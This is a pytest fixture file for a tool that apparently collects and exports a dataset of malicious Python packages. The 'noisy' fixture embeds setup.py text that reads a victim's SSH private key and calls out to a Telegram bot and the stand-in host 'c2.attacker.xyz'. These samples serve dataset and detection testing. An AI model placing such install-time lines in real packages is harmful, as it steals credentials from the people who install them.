import json

import pytest

from pratique.dataset import grouping, intake
from pratique.dataset.exporters import EXPORTERS
from pratique.dataset.importers import osv
from pratique.dataset.record import Pair, Snapshot
from tests.dataset import made
from tests.dataset.importers.test_osv import RECORD


@pytest.fixture(scope="package")
def store(tmp_path_factory):
    token = "123456789:" + "AAHdqTcvCH1vGWJxfSeofSAs0K5PALDs" + "aws"
    noisy = (
        "import urllib.request\nfrom setuptools import setup\n"
        f"urllib.request.urlopen('https://api.telegram.org/bot{token}/sendMessage?text=x')\n"
        "urllib.request.urlopen('https://c2.attacker.xyz/=cmd()')\n"
        "open('/home/victim/.ssh/id_rsa').read()\nsetup(name='noisy', version='1.0')\n"
    )
    items = [
        made.found("thief-one", made.thief("thief-one", host="c2.attacker.xyz")),
        made.found("thief-two", made.thief("thief-two", host="c2.attacker.xyz")),
        made.found("noisy", made.sdist("noisy", "1.0", noisy), seen="2023-02"),
        made.found("adder", made.honest("adder"), label="benign"),
    ]
    with made.filled(tmp_path_factory.mktemp("store"), *items) as store:
        list(intake.take(store, "osv", [osv.parsed("x", json.dumps(RECORD).encode(), "osv")]))
        grouping.regroup(store.catalogue)
        grouping.divided(store.catalogue, "v1", "2026-01-01", "s")
        first = items[0].sample.sha256
        with store.catalogue.transaction():
            store.catalogue.add_pair(Pair(bad=first, previous_clean="00" * 32))
            store.catalogue.add_snapshot(Snapshot(sha256=first, taken="2024-01-01", metadata="{}"))
        yield store


@pytest.fixture(scope="package")
def exported(store, tmp_path_factory):
    folder = tmp_path_factory.mktemp("out")
    for write in EXPORTERS.values():
        write(store.catalogue, folder, "")
    return folder
